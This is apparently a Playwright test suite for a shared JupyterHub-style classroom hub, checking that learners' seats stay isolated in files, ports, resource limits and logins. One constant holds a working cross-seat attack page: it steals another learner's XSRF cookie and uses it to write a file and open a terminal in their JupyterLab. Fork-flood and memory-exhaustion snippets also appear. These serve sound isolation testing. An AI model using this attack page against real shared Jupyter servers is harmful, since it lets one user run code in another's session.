"""Learners of one hub in real browsers: one attacks another's seat; three start the ranks of lesson
01 at the same time, each as if alone on the machine.

The screenshots in tests/artifacts/ are for visual inspection.
"""

import json
import os
from urllib.parse import quote

import pytest
from playwright.sync_api import expect, sync_playwright

from tests.browser.jupyterlab import CELLS, CHROMIUM_FLAGS, READY, error_outputs, find_chromium
from tests.classroom.boards import until
from tests.hub.hubs import CAN_LIMIT, RunningHub, need_seats
from tests.patience import patience
from utils.hub.seat import COPY
from utils.paths import ROOT

if not find_chromium() and not os.environ.get("CI"):
    pytest.skip("no Chromium: apt-get install chromium, or CHROMIUM=/path", allow_module_level=True)

pytestmark = pytest.mark.thorough
ARTIFACTS = ROOT / "tests" / "artifacts"
WAIT = 1000 * patience(120)  # ms; three seats open at once
LESSON = "notebooks/01_data_parallel.ipynb"
TALK = "dist.all_reduce(x)"  # in the cell after which the ranks have communicated
NAMES = ("ada", "bob-" + 27 * "2", "cleo")  # one with the greatest length allowed
SETTINGS = 'c.Seat.args = ["--LabApp.expose_app_in_browser=True"]\n'  # for the tests' commands

# Runs code in the open notebook's kernel and returns what it prints.
EXECUTE = """async code => {
    const kernel = window.jupyterapp.shell.currentWidget.sessionContext.session.kernel;
    const future = kernel.requestExecute({ code });
    let said = '';
    future.onIOPub = message => {
        said += message.content.text ?? message.content.traceback?.join('\\n') ?? '';
    };
    await future.done;
    return said;
}"""
# In a kernel: a server that answers with a name, and its client.
SERVE = """
import http.server, os, socket, threading, urllib.request
class Say(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(b"{name}")
    def log_message(self, *words): pass
server = http.server.HTTPServer(("127.0.0.1", 8000), Say)
threading.Thread(target=server.serve_forever, daemon=True).start()
def ask(port):
    return urllib.request.urlopen(f"http://127.0.0.1:{{port}}", timeout={limit}).read().decode()
"""
MARK = "a-file-of-"
FIND = f"""
found, known = [], ("/proc", "/sys", "/usr", "{ROOT}/")
for folder, below, names in os.walk("/"):
    below[:] = [name for name in below if not os.path.join(folder, name).startswith(known)]
    found += [name for name in names if name.startswith("{MARK}")]
print(found)
"""
TAKE = """
import subprocess, sys
print(subprocess.run([sys.executable, "-c", "bytearray({gib} << 30)"]).returncode)
"""
MANY = """
many = []
try:
    while len(many) < 1000:
        many.append(subprocess.Popen(["sleep", "600"]))
except OSError:
    pass
for child in many: child.kill()
for child in many: child.wait()
print(len(many))
"""
# In a kernel: replaces the seat's JupyterLab with a page that acts in its visitor's own seat.
ATTACK = """
import os, socketserver, threading
page = b'''<!doctype html><button>free coffee</button><script>
document.querySelector("button").onclick = async () => {{
  const other = open("{other}lab"), say = text => {{ document.title = text; }};
  try {{
    let token = null;
    while (!(token = other.document.cookie.match(/_xsrf=([^;]+)/)))
      await new Promise(done => setTimeout(done, 100));
    const headers = {{ "X-XSRFToken": token[1] }};
    const ask = (method, route, body) =>
      other.fetch("{other}api/" + route, {{ method, body, headers }});
    const file = JSON.stringify({{ type: "file", format: "text", content: "by ada" }});
    const put = await ask("PUT", "contents/stolen.txt", file);
    say("put " + put.status + " terminal " + (await ask("POST", "terminals")).status);
  }} catch (error) {{
    const blind = {{ method: "POST", mode: "no-cors", credentials: "include" }};
    await fetch("{other}api/terminals", blind);
    say(error.name);
  }}
}};
</script>'''
class Say(socketserver.StreamRequestHandler):
    def handle(self):
        self.request.recv(65536)
        self.wfile.write(b"HTTP/1.0 200 OK\\r\\n\\r\\n" + page)
os.unlink("/run/seat/lab.sock")
server = socketserver.ThreadingUnixStreamServer("/run/seat/lab.sock", Say)
threading.Thread(target=server.serve_forever, daemon=True).start()
"""
TERMINALS = """async () => {
    const { terminals } = window.jupyterapp.serviceManager;
    await terminals.refreshRunning();
    return [...terminals.running()].length;
}"""
RUN_ABOVE = """index => {
    const { commands, shell } = window.jupyterapp;
    commands.execute('notebook:clear-all-cell-outputs');
    shell.currentWidget.content.activeCellIndex = index;
    commands.execute('notebook:run-all-above');
}"""


class Learner:
    """A learner's own browser context and seat."""

    def __init__(self, hub, chromium, name):
        self.hub, self.name = hub, name
        self.page = chromium.new_context(viewport={"width": 1280, "height": 800}).new_page()
        self.page.set_default_timeout(WAIT)

    def log_in(self, path="", password="a-long-word"):
        """Log in, which starts a seat, and begin to open `path`."""
        seat = f"/hub/spawn?next={quote(f'/user/{self.name}/doc/tree/{path}')}"
        self.page.goto(f"{self.hub.url}/hub/login?next={quote(seat)}")
        self.page.fill("input[name=username]", self.name)
        self.page.fill("input[name=password]", password)
        self.page.click("#login_submit")

    def opened(self):
        try:
            self.page.wait_for_function("() => window.jupyterapp?.shell?.currentWidget")
            self.page.wait_for_function(READY)
        finally:  # shows where it hangs
            self.page.screenshot(path=ARTIFACTS / f"hub-{self.name}-opened.png")

    def run_above(self, index):
        """Begin to run all cells above this one."""
        self.page.evaluate(RUN_ABOVE, index)

    def cells(self):
        return self.page.evaluate(CELLS)

    def tell(self, code):
        """Run code in this learner's kernel; returns what it prints."""
        return self.page.evaluate(EXECUTE, code).strip()


@pytest.fixture(scope="module")
def chromium():
    assert find_chromium(), "CI needs a Chromium for this test: apt-get install chromium"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=find_chromium(), headless=True, args=CHROMIUM_FLAGS, timeout=90_000
        )
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def hub():
    need_seats()
    words = ["--memory", "3", "--cores", "1.5", "--processes", "400"]
    with RunningHub(*words, "--domain", "hub.localhost", config=SETTINGS) as hub:
        yield hub


@pytest.fixture(scope="module")
def learners(hub, chromium):
    """Three learners whose ranks have all communicated at the same time."""
    sources = ["".join(cell["source"]) for cell in json.loads((ROOT / LESSON).read_text())["cells"]]
    behind = next(index for index, source in enumerate(sources) if TALK in source) + 1
    learners = [Learner(hub, chromium, name) for name in NAMES]
    for learner in learners:
        learner.log_in(LESSON)
    for learner in learners:
        learner.opened()
    for learner in learners:
        learner.run_above(behind)
    for learner in learners:
        until(lambda learner=learner: learner.cells()[behind - 1].get("execution_count"), 120)
    for learner in learners:
        learner.page.wait_for_function(READY)
        assert error_outputs(learner.cells()[:behind]) == []
    yield learners


def attack(hub, thief, other):
    """Replace the thief's JupyterLab with ATTACK, and let `other` click on its page; returns
    (the page's result, the number of other's terminals)."""
    assert thief.tell(ATTACK.format(other=hub.seat(other.name))) == ""
    page = other.page.context.new_page()
    page.goto(hub.seat(thief.name))
    with page.expect_popup() as popup:
        page.get_by_role("button", name="free coffee").click()
    popup.value.wait_for_function("() => window.jupyterapp")  # the lab of `other`
    until(page.title, 60)
    return page.title(), other.page.evaluate(TERMINALS)


@pytest.mark.timeout(240)
def test_a_learners_page_acts_in_no_other_seat(chromium, hub):
    dora, emil = (Learner(hub, chromium, name) for name in ("dora", "emil"))
    for learner in (dora, emil):
        learner.log_in(LESSON)
    for learner in (dora, emil):
        learner.opened()
    assert "web origin" not in hub.said()
    assert attack(hub, dora, emil) == ("SecurityError", 0)
    assert not (hub.folder / "homes" / emil.name / COPY.name / "stolen.txt").exists()


@pytest.mark.timeout(300)
def test_three_learners_start_ranks_at_the_same_time(learners):
    for learner in learners:
        said = json.dumps(learner.cells())
        assert all(f"I am rank {rank} of 4" in said for rank in range(4)), learner.name
        learner.page.screenshot(path=ARTIFACTS / f"hub-{learner.name}.png")
        assert learner.tell("import utils.paths; print(utils.paths.ROOT)") == str(COPY)
    ada, *others = learners
    count = "import psutil; print(sum(map(psutil.Process.is_running, psutil.process_iter())))"
    before = int(ada.tell(count))
    for other in others:
        other.tell("ranks.close()")
    assert int(ada.tell(count)) == before  # she sees only her own
    ada.tell("ranks.close()")
    assert int(ada.tell(count)) <= before - 4


@pytest.mark.timeout(120)
def test_every_seat_has_all_ports_and_sees_no_other_ones(learners, hub):
    for learner in learners:
        learner.tell(SERVE.format(name=learner.name, limit=patience(5)))
    for learner in learners:  # three servers on the same port
        assert learner.tell("print(ask(8000))") == learner.name
    ada, bob, _ = learners
    ada.tell("own = http.server.HTTPServer(('', 8001), Say)")
    assert "Connection refused" in bob.tell("ask(8001)")
    assert "Connection refused" in bob.tell(f"ask({hub.port})")  # nor the machine's ports
    assert bob.tell("print([name for _, name in socket.if_nameindex()])") == "['lo']"


@pytest.mark.timeout(120)
def test_no_seat_sees_another_ones_files(learners, hub):
    for learner in learners:
        learner.tell(f"open('/home/learner/{MARK}{learner.name}', 'w').write('mine')")
    for learner in learners:
        assert learner.tell(FIND) == f"['{MARK}{learner.name}']"
        kept = hub.folder / "homes" / learner.name / f"{MARK}{learner.name}"
        assert kept.read_text() == "mine" and kept.parent.stat().st_mode & 0o077 == 0
        assert learner.tell(f"print(os.listdir('{hub.folder}'))") == "[]"
        for place in (hub.course, ROOT, "/usr", "/etc"):
            assert "Read-only file system" in learner.tell(f"open('{place}/x', 'w')"), place


@pytest.mark.skipif(not CAN_LIMIT, reason="only root may make control groups here")
@pytest.mark.timeout(120)
def test_limits_hold_and_reach_nobody_else(learners):
    ada, bob, _ = learners
    seen = (
        "from utils.measure.machine import machine; m = machine(); print(m.cores, m.memory >> 30)"
    )
    assert ada.tell(seen) == "1.5 3"  # the limits of the seat, not of the machine
    assert ada.tell(TAKE.format(gib=1)) == "0"
    assert ada.tell(TAKE.format(gib=4)) == "-9"  # killed by Linux …
    assert ada.tell("print(6 * 7)") == bob.tell("print(6 * 7)") == "42"  # … and nothing else
    assert int(ada.tell(MANY)) < 400


@pytest.mark.timeout(120)
def test_nobody_sits_on_anothers_seat(learners, chromium, hub):
    ada, bob, _ = learners
    page = bob.page.context.new_page()
    answer = page.goto(f"{hub.seat(ada.name)}lab")
    assert answer.status in (403, 404)
    thief = Learner(hub, chromium, ada.name)
    thief.log_in(password="another-long-word")
    expect(thief.page.get_by_text("Invalid username or password")).to_be_visible(timeout=WAIT)


@pytest.mark.timeout(240)
def test_without_a_domain_a_learners_page_acts_in_another_ones_seat(chromium):
    """The attack succeeds, and the hub warns of it."""
    need_seats()
    with RunningHub(config=SETTINGS) as hub:
        assert "All seats share one web origin" in hub.said()
        ada, bob = (Learner(hub, chromium, name) for name in ("ada", "bob"))
        for learner in (ada, bob):
            learner.log_in(LESSON)
            learner.opened()
        assert attack(hub, ada, bob) == ("put 201 terminal 200", 1)
        stolen = hub.folder / "homes" / "bob" / COPY.name / "stolen.txt"
        assert stolen.read_text() == "by ada"
